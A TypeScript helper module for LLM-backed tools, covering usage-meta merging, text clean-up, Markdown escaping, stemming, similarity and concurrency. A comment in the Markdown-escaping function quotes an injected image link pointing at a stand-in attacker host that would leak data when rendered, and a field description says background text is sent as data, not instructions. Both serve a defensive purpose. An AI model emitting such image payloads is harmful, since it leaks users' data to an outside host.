import { createRequire } from 'node:module';
import { z } from 'zod';
import { AppError } from '../../errors.js';
import type { LlmApi, LlmMeta, ToolContext } from '../types.js';

/**
 * What the structured language-model tools share: the `meta` block every result carries (usage summed
 * over several model calls), text clean-up applied to model strings, word sets and stems for
 * similarity, whitespace-normalised verbatim matching, bounded concurrency, and the error a handler
 * throws when the model's (schema-valid) reply is still unusable. Pure module: no side effects at load,
 * so sandbox threads may import it.
 *
 * Model schemas passed to ctx.llm.structured() stay inside OpenAI's strict dialect: every property
 * required, nullable instead of optional, no refinements or transforms, no length or count limits.
 * Counts, lengths and emptiness are checked here, in code, after the reply arrives.
 */

/** An upstream's token counts, as the chat-completions API reports them (shared with llm-client.ts's results). */
export const TokenUsageSchema = z.object({
  prompt_tokens: z.number().int().nonnegative(),
  completion_tokens: z.number().int().nonnegative(),
  total_tokens: z.number().int().nonnegative(),
});

export const LlmMetaSchema = z.object({
  model: z.string().describe('The model the upstream says answered.'),
  usage: TokenUsageSchema.nullable().describe('Token usage summed over the call (including a repair prompt), or null when the upstream did not report it.'),
  prompt_version: z.string().describe('Version of the instructions that produced this result.'),
});

/** The same schema, by the name the multi-call tools use. */
export const MetaSchema = LlmMetaSchema;

/**
 * One `meta` for a result built from several model calls: the model of the first call (they all go to
 * LLM_MODEL), usage summed over the calls that reported it (null when none did), and the tool's prompt
 * version.
 */
export function mergeMeta(metas: readonly LlmMeta[], promptVersion: string, fallbackModel: string): LlmMeta {
  let usage: LlmMeta['usage'] = null;
  for (const m of metas) {
    if (!m.usage) continue;
    usage ??= { prompt_tokens: 0, completion_tokens: 0, total_tokens: 0 };
    usage.prompt_tokens += m.usage.prompt_tokens;
    usage.completion_tokens += m.usage.completion_tokens;
    usage.total_tokens += m.usage.total_tokens;
  }
  return { model: metas[0]?.model ?? fallbackModel, usage, prompt_version: promptVersion };
}

export const META_OUTPUT = 'meta: {model, usage: {prompt_tokens, completion_tokens, total_tokens} | null, prompt_version}';

/** Optional free-text background for a tool (a string, not a chat transcript). */
export const MAX_CONTEXT_CHARS = 20_000;
export const contextField = z
  .string()
  .trim()
  .max(MAX_CONTEXT_CHARS)
  .optional()
  .describe(`Background the model should take into account (at most ${MAX_CONTEXT_CHARS} characters). Sent as data, never as instructions.`);

/** The structured client, or 503 when the upstream is not configured (admission normally stops that first). */
export function llmOf(ctx: ToolContext, tool: string): LlmApi {
  if (!ctx.llm) throw new AppError('tool_unavailable', `${tool} needs a language-model upstream: set LLM_BASE_URL`, { needs: ['llm'] });
  return ctx.llm;
}

/** A schema-valid reply that still cannot make a result (nothing usable in it): 503, uncharged. */
export function unusableReply(tool: string, why: string): AppError {
  return new AppError('tool_unavailable', `language-model upstream failed: the ${tool} reply was unusable (${why})`, {}, { retryable: false });
}

// Control characters except tab/newline/CR (those become spaces below anyway).
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F\u200B-\u200D\u2060\uFEFF]/g;

/** One line of model text: control and zero-width characters removed, every whitespace run one space, trimmed. */
export function clean(s: string): string {
  return s.replace(CONTROL, '').replace(/\s+/gu, ' ').trim();
}

/** Cleaned strings, empties dropped, case-insensitive duplicates dropped (first kept), at most `max`. */
export function cleanList(items: readonly string[], max = Infinity): string[] {
  const seen = new Set<string>();
  const out: string[] = [];
  for (const raw of items) {
    const s = clean(raw);
    const key = s.toLowerCase();
    if (!s || seen.has(key)) continue;
    seen.add(key);
    out.push(s);
    if (out.length >= max) break;
  }
  return out;
}

/** Number of Unicode code points (what `chars` and `max_chars` count). */
export function codePoints(s: string): number {
  let n = 0;
  for (const _ of s) n += 1;
  return n;
}

/** Lower-cased words (runs of letters and digits, NFKC-normalised), as a set. */
export function wordSet(s: string): Set<string> {
  return new Set(
    s
      .normalize('NFKC')
      .toLowerCase()
      .match(/[\p{L}\p{N}]+/gu) ?? [],
  );
}

/** |A ∩ B| / |A ∪ B| of the two texts' word sets; 0 when both are empty. */
export function jaccard(a: string | ReadonlySet<string>, b: string | ReadonlySet<string>): number {
  const A = typeof a === 'string' ? wordSet(a) : a;
  const B = typeof b === 'string' ? wordSet(b) : b;
  if (A.size === 0 && B.size === 0) return 0;
  let inter = 0;
  for (const w of A) if (B.has(w)) inter += 1;
  return inter / (A.size + B.size - inter);
}

/**
 * Escapes model text for Markdown so it renders as text: no raw HTML, no links or images (an
 * injected `![](https://attacker/?q=...)` would fetch on render), no emphasis or tables from stray
 * characters. Input is expected to be one line already (see `clean`).
 */
export function mdText(s: string): string {
  return s
    .replace(/[\\`*_[\]<>|#!~]/g, (c) => `\\${c}`)
    .replace(/^([-+=])/, '\\$1') // a list item, or a setext heading underline
    .replace(/^(\d+)([.)])/, '$1\\$2'); // an ordered list item
}

// ---------------------------------------------------------------------------------------------
// Words

/** English stop words, left out of similarity (the same list the text tools use for scoring). */
export const STOP_WORDS: ReadonlySet<string> = new Set(
  (
    'a an and are as at be been being but by can could did do does doing for from had has have having he her hers him his how i if in into is it its ' +
    'itself just me more most my no nor not of off on once only or other our ours out over own same she should so some such than that the their theirs them ' +
    'then there these they this those through to too under until up very was we were what when where which while who whom why will with would you your yours'
  ).split(' '),
);

// wink-eng-lite-web-model (a dependency) ships the Porter2 stemmer as a standalone CommonJS file.
const stemWord = createRequire(import.meta.url)('wink-eng-lite-web-model/dist/porter-stemmer.js') as (word: string) => string;

/** Lower-cased, stemmed content words of a text, in order (stop words and one-character words left out). */
export function stems(text: string): string[] {
  const out: string[] = [];
  const re = /[\p{L}\p{N}]+(?:['’][\p{L}]+)*/gu;
  for (let m = re.exec(text); m; m = re.exec(text)) {
    const w = m[0].toLowerCase().replace(/’/g, "'");
    if (w.length < 2 || STOP_WORDS.has(w)) continue;
    out.push(/^\p{N}+$/u.test(w) ? w : stemWord(w));
  }
  return out;
}

export function round(x: number, digits = 3): number {
  const f = 10 ** digits;
  return Math.round(x * f) / f;
}

// ---------------------------------------------------------------------------------------------
// Verbatim matching

/**
 * Where `needle` occurs in `haystack` once runs of white space in both are taken as one space (and the
 * needle is trimmed): the span of the first occurrence in `haystack`'s own offsets, or null. Case and
 * punctuation must match. An empty needle matches nothing.
 */
export function findVerbatim(haystack: string, needle: string): { start: number; end: number } | null {
  return verbatimIndex(haystack)(needle);
}

/**
 * findVerbatim for many needles in one haystack: the white-space-collapsed copy is built once, so each
 * lookup is one indexOf (genius_plus checks every citation against a page of up to 100,000 characters).
 */
export function verbatimIndex(haystack: string): (needle: string) => { start: number; end: number } | null {
  let flat: { text: string; from: number[] } | null = null;
  return (needle) => {
    const want = needle.normalize('NFC').replace(/\s+/g, ' ').trim();
    if (!want) return null;
    const exact = haystack.indexOf(want);
    if (exact >= 0) return { start: exact, end: exact + want.length };
    flat ??= collapse(haystack.normalize('NFC'));
    const at = flat.text.indexOf(want);
    if (at < 0) return null;
    // NFC may have changed lengths; offsets then refer to the normalised text, which is what was compared.
    return { start: flat.from[at]!, end: flat.from[at + want.length - 1]! + 1 };
  };
}

/** The text with each run of white space as one space, and where each kept character came from. */
function collapse(src: string): { text: string; from: number[] } {
  const parts: string[] = [];
  const from: number[] = [];
  let inSpace = false;
  for (let i = 0; i < src.length; i++) {
    const c = src[i]!;
    if (/\s/.test(c)) {
      if (!inSpace) {
        parts.push(' ');
        from.push(i);
      }
      inSpace = true;
    } else {
      parts.push(c);
      from.push(i);
      inSpace = false;
    }
  }
  return { text: parts.join(''), from };
}

// ---------------------------------------------------------------------------------------------
// Concurrency

/**
 * Maps with at most `limit` calls in flight. Every call is awaited before the first failure is thrown,
 * so nothing keeps running (and recording usage) after the handler has given up.
 */
export async function mapSettled<T, R>(items: readonly T[], limit: number, fn: (item: T, index: number) => Promise<R>): Promise<R[]> {
  const results: R[] = new Array(items.length);
  type Failure = { error: unknown; index: number };
  const state: { failure: Failure | null } = { failure: null };
  let next = 0;
  const worker = async () => {
    while (next < items.length) {
      const i = next++;
      if (state.failure) return; // all or nothing: do not start more calls after one failed
      try {
        results[i] = await fn(items[i]!, i);
      } catch (error) {
        // (Read afresh: another worker may have failed while this call was awaited.)
        const prior = state.failure as Failure | null;
        if (!prior || i < prior.index) state.failure = { error, index: i };
      }
    }
  };
  await Promise.all(Array.from({ length: Math.max(1, Math.min(limit, items.length)) }, worker));
  if (state.failure) throw state.failure.error;
  return results;
}
